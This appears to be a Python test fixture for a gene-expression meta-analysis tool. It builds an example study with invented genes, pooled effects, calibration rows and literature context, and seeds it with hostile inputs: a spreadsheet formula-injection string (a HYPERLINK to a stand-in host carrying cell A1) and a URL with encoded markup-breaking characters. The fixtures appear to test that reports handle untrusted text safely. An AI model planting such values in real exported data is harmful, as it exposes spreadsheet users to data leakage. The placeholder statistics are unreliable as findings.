"""What the example study needs for the panels beside its answers: ledgers, pooled genes, calibration, context."""

from __future__ import annotations

import json
from dataclasses import asdict
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
from example_results import HOSTILE_TITLE, LONG_TITLE

from sidemine.considerations.calibration.table import CALIBRATION
from sidemine.differential.differential_table import DIFFERENTIAL
from sidemine.effect.pooled_columns import POOLED_GENES
from sidemine.prepare.gene_ledger import GENES_LEDGER
from sidemine.provenance import JobRecord
from sidemine.tables import read_json, read_table, write_json, write_table

NOT_ON_B = ["SIM00100", "SIM00101", "SIM00102"]
"""Genes that the second cohort does not hold."""
FILTERED_IN_A = ["SIM00110", "SIM00111"]
"""Genes that both cohorts measured and the first one did not test."""
NOWHERE = ["SIM00120"]
"""A gene that no cohort tested, only the cells."""
FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"open")'
"""Free text that a spreadsheet would run."""
CONTEXT = {
    "title": f"What the literature says {HOSTILE_TITLE}",
    "statements": [
        {"text": "An invented statement for the test.", "figure": "HR 9.87", "citation": "Nobody et al.", "url": "",
         "doi": "10.9999/invented"},
        {"text": f"A hostile statement {HOSTILE_TITLE}", "figure": HOSTILE_TITLE, "citation": LONG_TITLE, "doi": "",
         "url": "https://example.org/a?b=%22%3E"},
    ],
}  # fmt: skip
CONSIDERED = [
    {"name": "GSE999991", "what": "blood of other patients", "would_serve": "disease", "decision": "later",
     "reason": "Its labels are not known.", "marks": ["code", "remembered"], "doi": ""},
    {"name": HOSTILE_TITLE, "what": HOSTILE_TITLE, "would_serve": "inhibitor", "decision": "out",
     "reason": FORMULA, "marks": ["unknown"], "doi": "10.9999/other"},
]  # fmt: skip


def add_beside(folder: Path) -> Path:
    """Add ledgers, pooled genes, calibration, context and considered data sets to an example study; return it."""
    study = json.loads((folder / "study.json").read_text())
    study["config"]["context"] = CONTEXT
    study["considered"] = CONSIDERED
    write_json(study, folder / "study.json")
    for row in study["datasets"]:
        write_table(_ledger(), folder / "datasets" / row["dataset"] / "genes_ledger.tsv", GENES_LEDGER)
    _drop_genes(folder)
    write_table(_pooled(folder, ["vte_a", "vte_b"]), folder / "pooled" / "vte_targets" / "genes.tsv.gz", POOLED_GENES)
    write_table(_pooled(folder, ["vte_a"]), folder / "pooled" / "heme_null" / "genes.tsv.gz", POOLED_GENES)
    write_table(_single(folder, "inhibitor"), folder / "pooled" / "inhibitor_isg" / "genes.tsv.gz", POOLED_GENES)
    write_table(calibration_table(), folder / "calibration.tsv", CALIBRATION)
    verdicts = read_json(folder / "verdicts.json")
    verdicts["verdicts"][1]["evidence"] = verdicts["verdicts"][1]["evidence"][:1]
    verdicts["verdicts"][0]["trap_flags"] = [
        {"where": "dataset", "name": "cohort_a", "trap": "sex_mismatch", "check": "sex", "status": "warn",
         "evidence": "2 of 36 labels contradict the genes", "consequence": "told here", "serious": False},
        {"where": "contrast", "name": "vte_a", "trap": "reused_samples", "check": "re-use", "status": "warn",
         "evidence": HOSTILE_TITLE, "consequence": "told here", "serious": True},
    ]  # fmt: skip
    write_json(verdicts, folder / "verdicts.json")
    return folder


def _ledger() -> pd.DataFrame:
    rows = [(f"p{n}", f"G{n}", "kept", "approved symbol") for n in range(400)]
    rows += [(f"p{400 + n}", "", "dropped", f"several genes: A{n}, B{n}") for n in range(60)]
    rows += [
        (f"p{460 + n}", "G1", "dropped", f"approved symbol; other probe has the higher mean: p{n}") for n in range(40)
    ]
    return pd.DataFrame(rows, columns=GENES_LEDGER.names)


def _drop_genes(folder: Path) -> None:
    import anndata

    for contrast, gone in (("vte_a", FILTERED_IN_A + NOWHERE), ("vte_b", NOT_ON_B + NOWHERE)):
        path = folder / "contrasts" / contrast / "differential.tsv.gz"
        table = read_table(path, DIFFERENTIAL)
        write_table(table[~table["gene"].isin(gone)], path, DIFFERENTIAL)
    path = folder / "datasets" / "cohort_b" / "expression.h5ad"
    data = anndata.read_h5ad(path)
    data[:, ~data.var_names.isin(NOT_ON_B)].copy().write_h5ad(path)


def _pooled(folder: Path, contrasts: list[str]) -> pd.DataFrame:
    """Pool fold changes by their mean: the numbers only have to be there, and to be missing where a contrast lacks them."""
    parts = {
        name: read_table(folder / "contrasts" / name / "differential.tsv.gz", DIFFERENTIAL).set_index("gene")
        for name in contrasts
    }
    genes = sorted(set().union(*(part.index for part in parts.values())))
    effects = pd.DataFrame({name: part["log2_fold_change"].reindex(genes) for name, part in parts.items()})
    k = effects.notna().sum(axis=1)
    effect = effects.mean(axis=1)
    table = pd.DataFrame(dict.fromkeys(POOLED_GENES.names, np.nan), index=genes)
    table["gene"], table["effect_unit"], table["k"], table["family_size"] = genes, "Hedges g", k, 0
    table["method"] = np.where(k > 1, "common effect", "single dataset")
    table["effect"], table["se"] = effect, 0.13
    table["ci_low"], table["ci_high"] = effect - 0.2574, effect + 0.2574
    table["p_value"] = np.exp(-8 * effect.abs()) * 0.9871
    if len(contrasts) > 1:
        table["q_value"] = np.minimum(1, table["p_value"] * 2).where(k > 1)
        table["q_p"] = (0.5 + effect / 10).where(k > 1)
    table["not_estimable"] = ""
    for name in contrasts:
        table[f"effect:{name}"] = effects[name]
    return table.reset_index(drop=True)


def _single(folder: Path, contrast: str) -> pd.DataFrame:
    """Return the pooled table of one experiment: its own fold changes, as the evidence stage writes them."""
    own = read_table(folder / "contrasts" / contrast / "differential.tsv.gz", DIFFERENTIAL)
    table = pd.DataFrame(dict.fromkeys(POOLED_GENES.names, np.nan), index=own.index)
    table["gene"], table["effect_unit"], table["k"], table["family_size"] = own["gene"], "log2 fold change", 1, 0
    table["method"], table["not_estimable"] = "single dataset", "a single dataset: there is nothing to pool"
    table["effect"] = table[f"effect:{contrast}"] = own["log2_fold_change"]
    for name in ("se", "ci_low", "ci_high", "p_value"):
        table[name] = own[name]
    return table


def calibration_table() -> pd.DataFrame:
    """Return a small calibration table: one that holds, one that was not measured, with hostile text."""
    common: dict[str, Any] = {
        "null": "global", "quantity": "size", "family": "primary", "level": 0.05, "seed": 5, "parameter": "", "reason": "",
        "source": "this study", "scope": "dataset",
    }  # fmt: skip
    rows = [
        {**common, "subject": "vte_a", "test": "fry", "n": 500, "rate": 0.0512, "ci_low": 0.034, "ci_high": 0.073,
         "upper_95": 0.0641, "reading": "holds"},
        {**common, "subject": "inhibitor", "test": "camera", "n": 0, "rate": np.nan, "ci_low": np.nan, "ci_high": np.nan,
         "upper_95": np.nan, "reading": "not measured", "reason": HOSTILE_TITLE},
        {**common, "scope": "design_class", "subject": "3 v 3", "test": "camera", "n": 10, "rate": 0.2, "ci_low": 0.1,
         "ci_high": 0.3, "upper_95": 0.28, "reading": "liberal", "family": "simulated", "source": "reference tables"},
    ]  # fmt: skip
    return pd.DataFrame(rows, columns=CALIBRATION.names)


def write_provenance(folder: Path) -> None:
    """Write the records that say what made the study and the manifest of a results folder."""
    study = json.loads((folder / "study.json").read_text())
    write_json({**study, "specifications": {}}, folder / "study.json")
    write_json([], folder / "inputs.json")
    for name, place in {"describe_study": "study.json", "write_manifest": "manifest.json"}.items():
        outputs = {place: sha256((folder / place).read_bytes()).hexdigest()}
        write_json(asdict(JobRecord("", "", {}, outputs)), folder / "provenance" / f"{name}.json")
